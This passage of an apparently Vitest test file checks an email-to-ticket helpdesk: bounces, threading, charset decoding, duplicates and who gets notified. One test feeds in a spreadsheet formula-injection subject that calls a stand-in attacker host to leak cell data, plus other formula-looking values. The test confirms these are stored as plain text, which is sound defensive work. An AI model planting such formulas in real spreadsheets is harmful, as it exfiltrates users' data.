  caseRow(
    'B02 bounce is a delivery-failure note on the ticket',
    ['B02.eml'],
    [ticket({ number: 40, subject: 'Refund status', customerEmail: 'ines.moreau@example.net', conversation: ['t40.r1@example.com'] })],
    (result) => {
      const outcome = outcomeOf(result, 'B02.eml');
      expect(outcome.outcome).toBe('bounce');
      expect(outcome.ticket).toBe(40);
      expect(outcome.reason).toContain('ines.moreau@example.net');
      expect(outcome.reason).toContain('5.1.1');
      expect(result.sent.filter(notGood)).toEqual([]);
    },
  ),
  caseRow(
    'B05 ticket tag glued to text joins the ticket',
    ['B05.eml'],
    [ticket({ number: 123, subject: 'Printer offline', customerEmail: 'greta.holm@example.org', assignee: 'bob@example.com' })],
    (result) => {
      expect(outcomeOf(result, 'B05.eml').outcome).toBe('follow-up');
      expect(outcomeOf(result, 'B05.eml').ticket).toBe(123);
      expect(recipientList(result, notGood)).toEqual(['bob@example.com']);
    },
  ),
  caseRow(
    'B06 Finnish VS: prefix joins the open ticket by subject',
    ['B06.eml'],
    [ticket({ number: 45, subject: 'Laskun kopio', customerEmail: 'eero.laine@example.org' })],
    (result) => {
      expect(outcomeOf(result, 'B06.eml').outcome).toBe('follow-up');
      expect(outcomeOf(result, 'B06.eml').ticket).toBe(45);
      expect(ticketNumbered(result, 45).subject).toBe('Laskun kopio');
    },
  ),
  caseRow(
    'B08 copied colleague replying joins without taking over',
    ['B08.eml'],
    [ticket({ number: 52, subject: 'VPN certificate expired', customerEmail: 'hannah.weber@example.org', cc: ['jonas.krause@example.org'], conversation: ['hw.0001@mail.example.org', 't52.r1@example.com'] })],
    (result) => {
      expect(outcomeOf(result, 'B08.eml').outcome).toBe('follow-up');
      expect(outcomeOf(result, 'B08.eml').ticket).toBe(52);
      const row = result.messages.find((record) => record.messageId === 'jk.4411@mail.example.org');
      expect(row?.author).toBe('jonas.krause@example.org');
      expect(ticketNumbered(result, 52).customer.email).toBe('hannah.weber@example.org');
    },
  ),
  caseRow(
    'B10 Outlook quoted block is left out of the notification',
    ['B10.eml'],
    [ticket({ number: 18, subject: 'Password reset link', customerEmail: 'leo.varga@example.org', lastReplier: 'alice@example.com', conversation: ['t18.r1@example.com'] })],
    (result) => {
      expect(outcomeOf(result, 'B10.eml').ticket).toBe(18);
      const note = notifications(result, 18)[0]!;
      expect(note.text).toContain('Thanks, the new password works now. You can close the ticket.');
      expect(note.text).not.toContain('Hello Leo');
      expect(note.text).not.toContain('Subject: Re: [#18]');
    },
  ),
  caseRow(
    'B12 customer line starting with On is kept',
    ['B12.eml'],
    [ticket({ number: 27, subject: 'Export button', customerEmail: 'mei.tanaka@example.org', conversation: ['t27.r1@example.com'] })],
    (result) => {
      expect(outcomeOf(result, 'B12.eml').ticket).toBe(27);
      const row = result.messages.find((record) => record.sourceId === 'B12.eml' && record.key === '');
      expect(row?.summary).toBe('On the laptop the Export button stays grey. It works on the desktop though.');
    },
  ),
  caseRow('B13 subject split across two encodings decodes whole', ['B13.eml'], [], (result) => {
    const created = ticketOf(result, 'B13.eml');
    expect(created.subject).toBe('Rückfrage zur Lieferung 4471');
    expect(created.customer.email).toBe('karl.brandt@example.org');
    expect(notifications(result, created.number)[0]?.subject).toBe(`[#${created.number}] Rückfrage zur Lieferung 4471`);
  }),
  caseRow('B15 iso-8859-2 body reaches the team intact', ['B15.eml'], [], (result) => {
    const created = ticketOf(result, 'B15.eml');
    expect(created.subject).toBe('Reklamacja zamówienia 1182');
    const text = notifications(result, created.number)[0]?.text ?? '';
    expect(text).toContain('Dzień dobry,\nzamówienie nr 1182 nie dotarło.\nTest znaków: Zażółć gęślą jaźń.');
    expect(text).not.toMatch(/[¿³¶±¼]/);
  }),
  caseRow('B16 pasted screenshot resolves in the team notification', ['B16.eml'], [], (result) => {
    const note = notifications(result, ticketOf(result, 'B16.eml').number)[0]!;
    expect(note.attachments).toEqual([{ filename: 'image001.png', size: 69 }]);
    expect(note.raw).toContain('Content-ID: <image001.png@01DB9A00.5C3E1F20>');
  }),
  caseRow('B18 the same message through an alias makes one ticket', ['B18-1.eml', 'B18-2.eml'], [], (result) => {
    expect(outcomeOf(result, 'B18-1.eml').outcome).toBe('new-ticket');
    expect(outcomeOf(result, 'B18-2.eml').state).toBe('duplicate');
    expect(result.tickets.filter((item) => item.customer.email === 'omar.haddad@example.org')).toHaveLength(1);
    expect(result.sent.filter(notGood)).toHaveLength(1);
    expect(result.messages.filter((record) => record.messageId === 'oh.2025.0324.0800@mail.example.org')).toHaveLength(1);
  }),
  caseRow(
    'B19 message already stored on a ticket is not imported again',
    ['B19.eml'],
    [ticket({ number: 57, subject: 'Wrong VAT number on invoice 2025-0311', customerEmail: 'paula.reyes@example.org', conversation: ['pr.vat.0311@mail.example.org'] })],
    (result) => {
      expect(outcomeOf(result, 'B19.eml').state).toBe('duplicate');
      expect(result.tickets.filter((item) => item.customer.email === 'paula.reyes@example.org')).toHaveLength(1);
      expect(result.sent.filter(notGood)).toEqual([]);
      expect(result.messages.filter((record) => record.messageId === 'pr.vat.0311@mail.example.org')).toEqual([]);
    },
  ),
  caseRow('B20 formula-looking sender and subject stay text for agents', ['B20.eml'], [], (result) => {
    const created = ticketOf(result, 'B20.eml');
    expect(created.subject).toBe('=HYPERLINK("http://attacker.example.net/?d="&A1,"Open invoice")');
    expect(created.customer.name).toBe('-2+3');
    expect(notifications(result, created.number)[0]?.subject).toBe(
      `[#${created.number}] =HYPERLINK("http://attacker.example.net/?d="&A1,"Open invoice")`,
    );
    const summary = result.cells.find((cell) => typeof cell.value === 'string' && cell.value.startsWith('@SUM(1+1)'));
    expect(summary?.formula).toBe(false);
    expect(result.cells.find((cell) => cell.value === created.subject)?.formula).toBe(false);
  }),
  caseRow(
    'B22 follow-up notifies only assignee, follower and last replier',
    ['B22.eml'],
    [ticket({ number: 12, subject: 'Shipment stuck in customs', customerEmail: 'nora.quinn@example.org', cc: ['ben.ortiz@example.org'], assignee: 'bob@example.com', followers: ['carol@example.com'], lastReplier: 'dave@example.com', conversation: ['nq.0320.0900@mail.example.org', 't12.r3@example.com'] })],
    (result) => {
      expect(outcomeOf(result, 'B22.eml').outcome).toBe('follow-up');
      expect(recipientList(result, notGood)).toEqual(['bob@example.com', 'carol@example.com', 'dave@example.com']);
      expect(notifications(result, 12)[0]?.replyTo[0]).toMatch(/^support\+12-[a-z2-7]+@example\.com$/);
    },
  ),
];

const hasCases = hasShared && existsSync(sharedPath('cases'));
const rows: Row[] = [...brokenMime, ...charsets, ...sizes, ...injection, ...senders, ...tags, ...loops, ...(hasCases ? cases : [])];

// ---------------------------------------------------------------------------------------------
// Checks of every row

function teamOf(row: Row): Agent[] {
  return row.setup?.team ?? DEFAULT_TEAM;
}

function checkInvariants(row: Row, inputs: InputMessage[], result: RunResult): void {
  for (const input of inputs) {
    expect(result.outcomes.filter((outcome) => outcome.sourceId === input.sourceId), `outcomes of ${input.sourceId}`).toHaveLength(1);
  }

  const good = outcomeOf(result, 'good');
  expect(good.outcome, 'the good message after the hostile ones').toBe('new-ticket');
  expect(result.sent.some((sent) => sent.kind === 'notification' && sent.subject.endsWith(GOOD_SUBJECT))).toBe(true);

  const team = new Set(teamOf(row).map((agent) => agent.email));
  const teamAddress = row.setup?.settings?.teamAddress;
  if (teamAddress) team.add(teamAddress);
  const customers = new Set(row.mayReceive ?? []);
  for (const sent of result.sent) {
    const label = `${sent.kind} "${sent.subject.slice(0, 60)}"`;
    const allowed = sent.kind === 'notification' || sent.kind === 'alert' ? team : customers;
    for (const email of recipients(sent)) expect(allowed.has(email), `${label} to ${email}`).toBe(true);
    expect(recipients(sent).length, `${label} recipients`).toBeLessThanOrEqual(MAX_RECIPIENTS);
    expect(sent.headers['bcc'], `${label} has a Bcc header`).toBeUndefined();
    expect([...recipients(sent), ...sent.replyTo].filter((email) => email.endsWith('attacker.example')), label).toEqual([]);
    const longest = Math.max(...sent.raw.split('\r\n').map((line) => line.length));
    expect(longest, `${label} longest line`).toBeLessThanOrEqual(MAX_LINE);
  }

  const keys = result.sent.map((sent) => sent.key);
  expect(new Set(keys).size, 'distinct keys of sent messages').toBe(keys.length);

  for (const cell of result.cells) {
    if (typeof cell.value === 'string') {
      expect(cell.value.length, `${cell.tab} row ${cell.row} column ${cell.column}`).toBeLessThanOrEqual(CELL_LIMIT);
    }
    expect(cell.formula, `${cell.tab} row ${cell.row} column ${cell.column} is a formula`).toBe(false);
  }
}

/** Checks that the next run over the same mailbox sends and records nothing. */
function checkRepeat(result: RunResult): void {
  const again = result.again!;
  expect(again.sent.map((sent) => `${sent.kind} to ${recipients(sent).join(', ')}`), 'sent by the second run').toEqual([]);
  expect(again.planned, 'messages the second run composed').toBe(0);
  expect(again.rows, 'Messages rows of the second run').toEqual([]);
  for (const outcome of again.outcomes) {
    const first = outcomeOf(result, outcome.sourceId);
    const expected = first.state === 'quarantined' ? 'quarantined' : 'duplicate';
    expect(outcome.state, `second run on ${outcome.sourceId}`).toBe(expected);
  }
}

describe.each([...runtimes, gasRuntime])('hostile input on the $name runtime', (runtime) => {
  it.each(rows)('$name', async (row) => {
    const inputs = [...row.messages(), goodMessage()];
    const setup: RunSetup = { ...row.setup, team: teamOf(row) };
    const result = await runtime.run(inputs, setup, { repeat: true });
    row.check(result);
    checkInvariants(row, inputs, result);
    checkRepeat(result);
  });
});

describe.skipIf(hasCases)('bug-report cases without shared data', () => {
  it('are skipped', () => {
    console.warn(sharedMissingNote);
  });
});
